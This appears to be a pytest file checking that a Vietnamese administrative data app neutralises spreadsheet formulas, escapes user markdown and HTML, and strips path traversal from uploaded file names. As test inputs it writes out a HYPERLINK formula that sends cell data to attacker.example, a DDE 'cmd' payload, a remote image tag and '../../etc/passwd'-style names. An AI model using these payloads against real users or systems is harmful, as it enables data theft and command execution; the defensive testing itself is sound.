"""Injection: text that a spreadsheet would run, markdown or HTML typed by users, and file names that
look like paths are all kept as plain text."""

from __future__ import annotations

import io
import re
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook
from page_fixtures import JUNE, XLSX_MIME, assert_clean, edited_plans, open_page, sheet
from sheet_factory import ingest_file

from loaders.template import template_bytes
from ui.render import neutral, neutral_frame, plain, safe_file_name

pytestmark = pytest.mark.both_backends

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
CALC = "=cmd|' /C calc'!A0"
IMAGE = "![x](http://attacker.example/a.png) **đậm** <img src=x>"


def test_a_village_name_is_written_into_the_template_as_text_not_a_formula(catalog):
    data = template_bytes(catalog, "tan_an", "thon", JUNE, village=HYPERLINK)
    book = load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == HYPERLINK]
    assert len(cells) == 2  # the title block of both data sheets
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [package.read(n).decode() for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets)


def test_table_cells_that_a_spreadsheet_would_run_get_an_apostrophe():
    assert [neutral(v) for v in (CALC, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "Tân An", "-3,5", "-12%", 7)] == [
        "'" + CALC,
        "'+1+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "'\r=1",
        "Tân An",
        "-3,5",
        "-12%",
        7,
    ]
    frame = neutral_frame(pd.DataFrame({"Tệp": [CALC, "a.xlsx"], "Số": [1, 2]}))
    assert list(frame["Tệp"]) == ["'" + CALC, "a.xlsx"] and list(frame["Số"]) == [1, 2]


def test_user_text_is_escaped_for_markdown():
    escaped = plain(IMAGE)
    assert escaped == ("\\!\\[x\\]\\(http\\://attacker\\.example/a\\.png\\) \\*\\*đậm\\*\\* \\<img src\\=x\\>")
    assert safe_file_name("../../etc/passwd", "x.xlsx") == "passwd"
    assert safe_file_name("..\\..\\boot.ini", "x.xlsx") == "boot.ini"
    assert safe_file_name("Phiếu tháng 6.xlsx", "x.xlsx") == "Phiếu tháng 6.xlsx"
    assert safe_file_name("///", "phieu_3.xlsx") == "phieu_3.xlsx"


def test_an_uploaded_file_name_is_never_a_path(db, catalog, tmp_path):
    target = tmp_path / "escaped.xlsx"
    name = f"../../../../..{target}"
    result = ingest_file(db, name, sheet(catalog, "tan_an", "all", JUNE, {"dvc_online_usage": 70}), catalog=catalog)
    assert result.accepted and not target.exists()


def test_the_upload_page_shows_hostile_names_as_plain_text(known_db, catalog):
    at = open_page("views/upload.py", locality="ke_sat")
    name = f"{IMAGE} {CALC}.xlsx"
    at.file_uploader(key="upload_files_0").set_value(
        [(name, sheet(catalog, "ke_sat", "all", JUNE, {"dvc_full_online_share": 60}), XLSX_MIME)]
    ).run()
    at.button(key="upload_confirm").click().run()
    assert_clean(at)
    message = next(m.value for m in at.success if "ĐÃ NHẬN" in m.value)
    assert plain(name) in message
    shown_name = message.split("\\: Xã Kẻ Sặt")[0]
    assert not re.search(r"(?<!\\)[!\[\]<>()*=]", shown_name)  # every markdown/HTML mark escaped
    history = next(t.value for t in at.dataframe if "Người nạp" in t.value.columns)
    assert history.iloc[0]["Tệp"] == name  # a table shows text as it is, never as markdown
    assert not history.iloc[0]["Tệp"].startswith("=")


def test_a_plan_whose_title_and_phases_hold_markdown_shows_it_as_text(known_db, tmp_path, monkeypatch):
    """A plan drafted from an uploaded document is text from outside: an image link in its title or a
    phase description never reaches the browser as an image to fetch."""
    data = edited_plans(
        tmp_path / "data",
        {"tan_an.yaml": [('\n  title: "', f'\n  title: "{IMAGE} '), ('description: "', f'description: "{IMAGE} ')]},
    )
    monkeypatch.setenv("DMST_DATA", str(data))
    for page in ("views/catalog.py", "views/phases.py"):
        at = open_page(page)
        assert_clean(at)
        shown = " ".join(m.value for m in at.markdown if not m.value.startswith("<style>"))
        assert "\\!\\[x\\]\\(http\\://attacker\\.example/a\\.png\\)" in shown, page
        assert not re.search(r"(?<!\\)!\[|(?<!\\)<img", shown), page
